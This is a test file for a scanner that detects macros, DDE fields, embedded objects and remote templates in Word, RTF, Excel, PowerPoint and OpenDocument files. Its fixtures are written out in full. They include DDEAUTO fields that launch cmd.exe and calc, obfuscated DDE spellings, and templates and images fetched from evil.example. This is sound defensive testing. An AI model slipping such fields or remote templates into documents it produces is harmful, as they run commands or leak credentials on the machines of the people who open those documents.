import { describe, expect, test } from 'vitest'
import { externalLink, makeDocx, paragraph } from '#tests/support/make-docx.ts'
import { makeZip } from '#tests/support/make-zip.ts'
import { sourceOf } from '../byte-source.ts'
import { fileTypes } from '../file-types.ts'
import { findActiveContent } from './scan-file.ts'

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const rels = (content: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`
const related = (kind: string, target: string, external = false) =>
  `<Relationship Id="x" Type="${office}/${kind}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const field = (...runs: string[]) =>
  `<w:p>${mark('begin')}${runs.join('')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}</w:p>`
const template = (target: string) =>
  makeDocx(paragraph('Contrato'), {
    parts: [{ name: 'word/_rels/settings.xml.rels', data: rels(related('attachedTemplate', target, true)) }],
  })
const withPart = (name: string, kind: string, data = 'x') =>
  makeDocx(paragraph('Contrato'), {
    relationships: related(kind, name.replace(/^word\//, '')),
    parts: [{ name, data }],
  })
const sheet = (...parts: { name: string; data: string }[]) =>
  makeZip([
    {
      name: '[Content_Types].xml',
      data: '<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    },
    { name: 'xl/workbook.xml', data: '<workbook/>' },
    ...parts,
  ])
/** A compound file whose directory holds the names, with more text behind it. */
const compound = (names: string[], text = '') => {
  const sectors = Math.ceil(names.length / 4)
  const file = Buffer.alloc(512 * (2 + sectors))
  Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1').copy(file)
  file.writeUInt16LE(9, 0x1e)
  file.writeUInt32LE(1, 0x30)
  for (let i = 1; i <= sectors; i += 1) file.writeUInt32LE(i === sectors ? 0xfffffffe : i + 1, 512 + 4 * i)
  names.forEach((name, i) => {
    file.write(name, 1024 + 128 * i, 'utf16le')
    file.writeUInt16LE(2 * name.length + 2, 1024 + 128 * i + 64)
  })
  return Buffer.concat([file, Buffer.from(text, 'latin1')])
}
const word = ['Root Entry', '1Table', 'WordDocument']
const wide = (text: string) => [...text].map((letter) => `${letter}\0`).join('')
const rtf = (text: string) => Buffer.from(`{\\rtf1\\ansi ${text}}`, 'latin1')
const odt = (content: string, ...parts: { name: string; data: string }[]) =>
  makeZip([
    { name: 'mimetype', data: fileTypes.odt.mimeType, stored: true },
    { name: 'content.xml', data: `<office:document-content>${content}</office:document-content>` },
    ...parts,
  ])

const scan = async (bytes: Uint8Array, type: keyof typeof fileTypes = 'docx') =>
  findActiveContent(sourceOf(bytes), fileTypes[type].mimeType)

describe('a Word file', () => {
  test.each<[string, Buffer, string]>([
    ['a template on a web server', template('https://evil.example/plantilla.dotm'), 'remote_template'],
    ['a template on a share', template('\\\\evil.example\\c\\plantilla.dotm'), 'remote_template'],
    ['a template on a share, as an address', template('file://evil.example/c/plantilla.dotm'), 'remote_template'],
    [
      'a template on a share behind three slashes',
      template('file:///\\\\evil.example\\plantilla.dotm'),
      'remote_template',
    ],
    [
      'a template whose address is percent-encoded',
      template('file:%2f%2fevil.example/plantilla.dotm'),
      'remote_template',
    ],
    ['an OLE object inside', withPart('word/embeddings/oleObject1.bin', 'oleObject'), 'embedded_object'],
    [
      'a linked OLE object',
      makeDocx(paragraph('a'), { relationships: externalLink('file:///C:/Windows/System32/calc.exe', 'oleObject') }),
      'embedded_object',
    ],
    ['a workbook inside', withPart('word/embeddings/Hoja.xlsx', 'package'), 'embedded_object'],
    ['a text that is merged in', withPart('word/afchunk.rtf', 'aFChunk'), 'embedded_object'],
    ['an ActiveX control', withPart('word/activeX/activeX1.xml', 'control', '<a/>'), 'active_control'],
    ['a DDE field', makeDocx(field(code('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))), 'dde_field'],
    ['a DDE field over several runs', makeDocx(field(code(' D'), code('DE'), code('AUTO cmd "/k calc"'))), 'dde_field'],
    [
      'a simple DDE field',
      makeDocx(`<w:p><w:fldSimple w:instr=" dde cmd &quot;/k calc&quot;"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`),
      'dde_field',
    ],
    ['a DDE field behind character references', makeDocx(field(code('&#x44;DE cmd'))), 'dde_field'],
    [
      'a DDE field whose name is made by another field',
      makeDocx(field(mark('begin'), code('QUOTE 68 68 69'), mark('separate'), mark('end'), code(' cmd "/k calc"'))),
      'dde_field',
    ],
    ['a DDE field that never ends', makeDocx(`<w:p>${mark('begin')}${code('DDE cmd')}</w:p>`), 'dde_field'],
    ['a DDE field in a header', makeDocx(paragraph('a'), { header: field(code('DDEAUTO cmd')) }), 'dde_field'],
    [
      'a DDE field in UTF-16',
      makeDocx(paragraph('a'), {
        parts: [
          {
            name: 'word/glossary/document.xml',
            data: Buffer.from('\ufeff<w:document><w:instrText>DDE cmd</w:instrText></w:document>', 'utf16le'),
          },
        ],
      }),
      'dde_field',
    ],
    ['a text that is fetched', makeDocx(field(code('INCLUDETEXT "https://evil.example/a.docx"'))), 'remote_content'],
    [
      'a picture that is fetched from a share',
      makeDocx(field(code('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d'))),
      'remote_content',
    ],
    [
      'a linked picture',
      makeDocx(paragraph('a'), { relationships: externalLink('https://evil.example/pixel.png', 'image') }),
      'remote_content',
    ],
    [
      'a frame',
      makeDocx(paragraph('a'), { relationships: externalLink('https://evil.example/', 'frame') }),
      'remote_content',
    ],
    [
      'an encoding that is not read',
      makeDocx(paragraph('a'), { parts: [{ name: 'word/x.xml', data: '<?xml version="1.0" encoding="utf-7"?><a/>' }] }),
      'not_checked',
    ],
  ])('is known by %s', async (_, bytes, warning) => {
    expect(await scan(bytes)).toEqual({ macros: false, warnings: [warning] })
  })

  test.each<[string, Buffer]>([
    ['macros under another name', withPart('word/datos.bin', 'vbaProject')],
    ['the part of macros', withPart('word/vbaProject.bin', 'vbaProject')],
    ['the data of macros', withPart('word/vbaData.xml', 'wordVbaData', '<a/>')],
  ])('is known by %s', async (_, bytes) => {
    expect((await scan(bytes)).macros).toBe(true)
  })

  test('is known by everything it holds at once', async () => {
    const bytes = makeDocx(field(code('DDE cmd')), {
      relationships: externalLink('https://evil.example/a.png', 'image'),
      parts: [
        {
          name: 'word/_rels/settings.xml.rels',
          data: rels(related('attachedTemplate', 'http://evil.example/t.dotm', true)),
        },
      ],
    })
    expect((await scan(bytes)).warnings).toEqual(['remote_template', 'dde_field', 'remote_content'])
  })

  test.each<[string, Buffer]>([
    ['nothing but text', makeDocx(paragraph('DDEAUTO es una palabra; también https://example.com'))],
    ['a link to the web', makeDocx(paragraph('a'), { relationships: externalLink('https://example.com/') })],
    ['a link to a share', makeDocx(paragraph('a'), { relationships: externalLink('\\\\servidor\\expedientes') })],
    ['the usual template', template('Normal.dotm')],
    [
      'a template on its writer’s disk',
      template('file:///C:\\Users\\Ana\\AppData\\Roaming\\Microsoft\\Templates\\Carta.dotx'),
    ],
    ['a picture that lay beside it', makeDocx(paragraph('a'), { relationships: externalLink('foto.png', 'image') })],
    [
      'usual fields',
      makeDocx(
        `${field(code(' PAGE '))}${field(code('HYPERLINK "https://example.com/dde"'))}${field(code('MERGEFIELD DDE_NUMERO'))}${field(code('INCLUDEPICTURE "fotos\\\\a.png" \\* MERGEFORMAT'))}`,
      ),
    ],
    [
      'numbers behind a chart',
      makeDocx(paragraph('a'), {
        parts: [
          { name: 'word/charts/_rels/chart1.xml.rels', data: rels(related('package', '../embeddings/Hoja.xlsx')) },
          { name: 'word/embeddings/Hoja.xlsx', data: 'x' },
        ],
      }),
    ],
    [
      'data of its own',
      makeDocx(paragraph('a'), {
        relationships: related('customXml', '../customXml/item1.xml'),
        parts: [{ name: 'customXml/item1.xml', data: '<a>DDE</a>' }],
      }),
    ],
  ])('with %s is harmless', async (_, bytes) => {
    expect(await scan(bytes)).toEqual({ macros: false, warnings: [] })
  })

  test('is not read beyond a limit', async () => {
    const bytes = makeDocx(paragraph('a'), {
      parts: [1, 2, 3].map((n) => ({
        name: `word/relleno${n}.xml`,
        data: Buffer.concat([Buffer.from('<a>'), Buffer.alloc(12 * 1024 * 1024, 'ab cd ef gh '), Buffer.from('</a>')]),
      })),
    })
    expect((await scan(bytes)).warnings).toEqual(['not_checked'])
  })
})

describe('an older Word file', () => {
  test.each<[string, Buffer, string]>([
    ['an object', compound([...word, 'ObjectPool', '_1234567890']), 'embedded_object'],
    ['a wrapped file', compound([...word, '\x01Ole10Native']), 'embedded_object'],
    ['a DDE field', compound(word, 'texto\x13 DDEAUTO cmd "/k calc"\x14\x15'), 'dde_field'],
    ['a DDE field in two bytes a character', compound(word, wide('\x13DDE cmd\x14')), 'dde_field'],
    ['a template on a web server', compound(word, `\0\0${wide('https://evil.example/t.dotm')}`), 'remote_template'],
    ['a password', compound(['Root Entry', 'EncryptedPackage']), 'not_checked'],
  ])('is known by %s', async (_, bytes, warning) => {
    expect((await scan(bytes, 'doc')).warnings).toEqual([warning])
  })
  test('is known by macros', async () => {
    expect((await scan(compound([...word, 'VBA']), 'doc')).macros).toBe(true)
  })
  test('without any of it is harmless', async () => {
    expect(
      await scan(
        compound(
          [...word, 'ObjectPool'],
          `\x13 HYPERLINK "https://example.com"\x14${wide('https://example.com/dote.html')}`,
        ),
        'doc',
      ),
    ).toEqual({ macros: false, warnings: [] })
  })
  test('with a directory that does not end is not checked', async () => {
    const broken = compound(word)
    broken.writeUInt32LE(1, 512 + 4)
    expect((await scan(broken, 'doc')).warnings).toEqual(['not_checked'])
  })
})

describe('an RTF file', () => {
  test.each<[string, Buffer, string]>([
    ['an object', rtf('{\\object\\objemb{\\*\\objdata 0105}}'), 'embedded_object'],
    ['the data of an object without its frame', rtf('{\\*\\objdata 0105}'), 'embedded_object'],
    ['a template on a web server', rtf('{\\*\\template http://evil.example/t.dotm}'), 'remote_template'],
    [
      'a template spelled in hexadecimal',
      rtf("{\\*\\template \\'68\\'74\\'74\\'70://evil.example/t.dotm}"),
      'remote_template',
    ],
    ['a template spelled in Unicode', rtf('{\\*\\template \\u104?\\u116?tp://evil.example/t.dotm}'), 'remote_template'],
    ['a DDE field', rtf('{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}{\\fldrslt a}}'), 'dde_field'],
    ['a DDE field over several groups', rtf('{\\field{\\*\\fldinst {\\b D}{\\i DE cmd}}{\\fldrslt a}}'), 'dde_field'],
    [
      'an object across two pieces of the file',
      rtf(`${'a'.repeat(256 * 1024 - 16)}{\\object\\objemb}`),
      'embedded_object',
    ],
  ])('is known by %s', async (_, bytes, warning) => {
    expect((await scan(bytes, 'rtf')).warnings).toEqual([warning])
  })
  test('with usual words, a picture and a link is harmless', async () => {
    expect(
      (
        await scan(
          rtf(
            '{\\*\\template C:\\\\Plantillas\\\\Carta.dot}{\\pict\\bin4 \\obj}{\\field{\\*\\fldinst HYPERLINK "https://example.com"}{\\fldrslt a}} \\objetivo',
          ),
          'rtf',
        )
      ).warnings,
    ).toEqual([])
  })
})

describe('a workbook', () => {
  test.each<[string, Buffer, string]>([
    [
      'a DDE link',
      sheet({
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
      'dde_field',
    ],
    [
      'data of a web page',
      sheet({
        name: 'xl/connections.xml',
        data: '<connections><connection><webPr url="https://evil.example"/></connection></connections>',
      }),
      'remote_content',
    ],
    [
      'a workbook elsewhere',
      sheet({
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        data: rels(related('externalLinkPath', 'https://evil.example/a.xlsx', true)),
      }),
      'remote_content',
    ],
  ])('is known by %s', async (_, bytes, warning) => {
    expect((await scan(bytes, 'xlsx')).warnings).toEqual([warning])
  })
  test('is known by sheets of old macros', async () => {
    expect((await scan(sheet({ name: 'xl/macrosheets/sheet1.xml', data: '<a/>' }), 'xlsx')).macros).toBe(true)
  })
  test('with a workbook beside it is harmless', async () => {
    expect(
      (
        await scan(
          sheet({
            name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
            data: rels(related('externalLinkPath', 'Libro2.xlsx', true)),
          }),
          'xlsx',
        )
      ).warnings,
    ).toEqual([])
  })
})

describe('a presentation and an OpenDocument text', () => {
  test('are known by an action that starts a program, a script, DDE and what is fetched', async () => {
    const slide = makeZip([
      { name: '[Content_Types].xml', data: '<Types><Default Extension="xml" ContentType="application/xml"/></Types>' },
      { name: 'ppt/slides/slide1.xml', data: '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>' },
    ])
    expect((await scan(slide, 'pptx')).warnings).toEqual(['active_control'])
    expect((await scan(odt('<text:dde-connection-decl office:dde-application="cmd"/>'), 'odt')).warnings).toEqual([
      'dde_field',
    ])
    expect(
      (
        await scan(
          odt('<draw:image xlink:href="https://evil.example/a.png"/><draw:object-ole xlink:href="./Object 1"/>'),
          'odt',
        )
      ).warnings,
    ).toEqual(['embedded_object', 'remote_content'])
    expect((await scan(odt('', { name: 'Scripts/python/a.py', data: 'x' }), 'odt')).macros).toBe(true)
    expect(
      await scan(
        odt(
          '<text:a xlink:href="https://example.com">a</text:a><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>',
        ),
        'odt',
      ),
    ).toEqual({ macros: false, warnings: [] })
  })
})
